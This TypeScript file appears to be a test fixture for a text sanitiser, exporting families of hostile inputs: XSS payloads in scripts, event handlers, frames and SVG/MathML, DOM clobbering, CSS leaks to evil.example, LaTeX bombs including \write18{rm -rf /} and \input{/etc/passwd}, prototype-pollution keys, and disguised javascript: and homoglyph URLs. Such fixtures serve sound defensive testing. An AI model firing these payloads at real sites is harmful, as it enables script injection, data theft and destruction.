import { TRACE } from "./hostile.ts";

/** Foreign text that would do harm if it were treated as more than text. */
export type Payload = {
  family: string;
  text: string;
  /** Used wherever a digest has an address: links, figures, code. */
  url: string;
};

const run = `window.${TRACE}=1;alert(1);fetch('https://evil.example/')`;
const script = `javascript:${run}`;

const scripts = [
  `<script>${run}</script>`,
  `<script src="https://evil.example/run.js"></script>`,
  `<script type="module">${run}</script>`,
  `<ScRiPt/x>${run}</sCrIpT >`,
  `</title></textarea></style><script>${run}</script>`,
  `<script type="importmap">{"imports":{"react":"https://evil.example/r.js"}}</script>`,
  `<script type="speculationrules">{"prefetch":[{"urls":["https://evil.example/"]}]}</script>`,
  `<template><script>${run}</script></template><noscript><script>${run}</script></noscript>`,
  `<<script>script>${run}<</script>/script>`,
  `--><script>${run}</script><!-- ]]><script>${run}</script><![CDATA[`,
];

const handlers = [
  `<img src=x onerror="${run}">`,
  `<img src=x onerror=${run.replaceAll("'", "")} //`,
  `<body onload="${run}"><body onpageshow="${run}">`,
  `<details open ontoggle="${run}"><summary>x</summary></details>`,
  `<input autofocus onfocus="${run}">`,
  `<video src=x onloadstart="${run}" onerror="${run}" autoplay></video>`,
  `" autofocus tabindex=0 onfocus="${run}" x="`,
  `'><img src=x onerror="${run}"><a b='`,
  `<b style="animation:x 1s" onanimationstart="${run}" onpointerenter="${run}">bold</b>`,
  `<xss contenteditable onbeforeinput="${run}" onfocusin="${run}" id=x tabindex=1>x</xss>`,
];

const frames = [
  `<iframe src="javascript:parent.${TRACE}=1"></iframe>`,
  `<iframe srcdoc="<script>parent.${TRACE}=1</script>"></iframe>`,
  `<object data="https://evil.example/"></object><embed src="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<base href="https://evil.example/" target="_top">`,
  `<form action="https://evil.example/"><button formaction="${script}">Save</button></form>`,
  `<link rel="stylesheet" href="https://evil.example/s.css"><link rel=prefetch href=//evil.example>`,
  `<frameset onload="${run}"><frame src="https://evil.example/"></frameset>`,
];

const foreignMarkup = [
  `<svg onload="${run}"><script>${run}</script></svg>`,
  `<svg><a xlink:href="${script}"><text y=20>svg</text></a></svg>`,
  `<svg><animate attributeName=href values="${script}" onbegin="${run}"/></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload='${run}'/>#x"/></svg>`,
  `<svg><foreignObject><body onload="${run}"><iframe srcdoc=x></iframe></foreignObject></svg>`,
  `<math><maction actiontype="statusline" xlink:href="${script}">x</maction></math>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${run}"></style></mglyph></table></mtext></math>`,
  `<svg><style><img src=x onerror="${run}"></style><image href="https://evil.example/i.png"/></svg>`,
];

const clobbering = [
  `<form id="root" name="body"><input name="innerHTML"><input name="attributes"></form>`,
  `<img name="getElementById"><img name="cookie"><img id="location">`,
  `<a id="indexedDB" href="x"></a><a id="indexedDB" name="open" href="${script}"></a>`,
  `<iframe name="self" src="about:blank"></iframe><object name="document"></object>`,
  `<p id="__proto__" class="constructor" name="toString">__proto__ constructor toString</p>`,
];

const styles = [
  `<style>@import "https://evil.example/s.css"; * { display: none !important }</style>`,
  `<p style="position:fixed;inset:0;z-index:9999;background:url(https://evil.example/b.png)">over</p>`,
  `<div style="background:url('${script}');behavior:url(x.htc);-moz-binding:url(//evil.example)">x</div>`,
  `</p><style>body{background:url(//evil.example/?leak)}</style><p class="fixed inset-0 z-50">x</p>`,
];

const deceits = [
  "A \u202Etxet desrever\u202C title \u2066left open \u202E and never closed",
  "zero\u200Bwidth\u200Djoin\uFEFFmark\u2060word\u00ADhyphen \u200E\u200F\u061C marks",
  "\u0000nul \u0007bell \u001B[31mred \u0085next \u2028line \u2029paragraph",
  "Z\u0351\u036B\u0343\u036A\u0302".repeat(200),
  "\uD800 lone \uDC00 halves \uFFFE \uFFFF",
];

const formulas = [
  String.raw`$\def\x{\x\x}\x$ $\newcommand{\y}{\y\y}\y$ \def\z{\z\z}\z`,
  String.raw`$\href{javascript:duiduRan=1}{x}$ \href{javascript:duiduRan=1}{here} \url{javascript:duiduRan=1}`,
  String.raw`$\includegraphics{https://evil.example/i.png}$ \includegraphics[width=9cm]{https://evil.example/i.png}`,
  String.raw`$\htmlStyle{position:fixed;inset:0}{x}\htmlId{root}{y}\htmlClass{fixed}{z}\htmlData{a=b}{w}$`,
  String.raw`$\rule{99999em}{99999em}\hspace{1e9em}\kern999999em\raisebox{99999em}{x}$`,
  String.raw`$\text{<img src=x onerror=duiduRan=1>}\mathrm{</span><script>duiduRan=1</script>}$`,
  String.raw`$\color{red;background:url(https://evil.example)}x\textcolor{expression(duiduRan=1)}{y}$`,
  String.raw`\input{/etc/passwd} \write18{rm -rf /} $\require{action}\toggle{a}{b}\endtoggle$ \catcode64=11`,
  `$${"{".repeat(2000)}x${"}".repeat(2000)}$ $${String.raw`\frac{1}{`.repeat(900)}1${"}".repeat(900)}$`,
  `$${String.raw`\sqrt{`.repeat(35)}x${"}".repeat(35)}$ $$${"x^{y_{z}}".repeat(400)}$$`,
];

const prototypes = [
  "__proto__",
  "constructor",
  "toString",
  "hasOwnProperty[__proto__][polluted]=1",
  `{"__proto__":{"${TRACE}":1},"constructor":{"prototype":{"${TRACE}":1}}}`,
];

/** Addresses that are not of the web, or lead elsewhere than they seem to. */
const addresses = [
  script,
  `JaVaScRiPt:${run}`,
  `java\tscript:${run}`,
  `\u0001javascript:${run}`,
  `&#106;avascript&colon;${run}`,
  `%6aavascript:${run}`,
  `javascript://arxiv.org/%0a${run}`,
  `data:text/html,<script>${run}</script>`,
  `data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSkvPg==`,
  `vbscript:msgbox(1)`,
  `file:///etc/passwd`,
  `blob:https://evil.example/7b0c`,
  `filesystem:https://evil.example/temporary/x`,
  `intent://evil.example#Intent;scheme=http;end`,
  `//evil.example/protocol-relative`,
  `https://arxiv.org@evil.example/abs/2401.00001`,
  `https://user:word@evil.example/`,
  `https://arxiv.org\\@evil.example/`,
  `https://arxiv.org\u202E/gro.live//:sptth`,
  `https://arx\u200Biv.org/abs/2401.00001`,
  `https://\u0430rxiv.org/abs/2401.00001`,
  `https:evil.example/no-slashes`,
  `http:\\\\evil.example\\x`,
  `https://github.com\u2044evil.example/x`,
  `https://evil.example/" onclick="${run}" x="`,
];

const familyOf = (family: string, texts: readonly string[]): Payload[] =>
  texts.map((text) => ({ family, text, url: script }));

/** Every payload, family by family. */
export const payloads: readonly Payload[] = [
  ...familyOf("script", scripts),
  ...familyOf("handler", handlers),
  ...familyOf("frame", frames),
  ...familyOf("foreign markup", foreignMarkup),
  ...familyOf("clobbering", clobbering),
  ...familyOf("style", styles),
  ...familyOf("deceit", deceits),
  ...familyOf("formula", formulas),
  ...familyOf("prototype", prototypes),
  ...addresses.map((url) => ({
    family: "address",
    text: `[here](${url}) ![there](${url}) <${url}> <a href="${url}">this</a> \\href{${url}}{that} ${url}`,
    url,
  })),
];
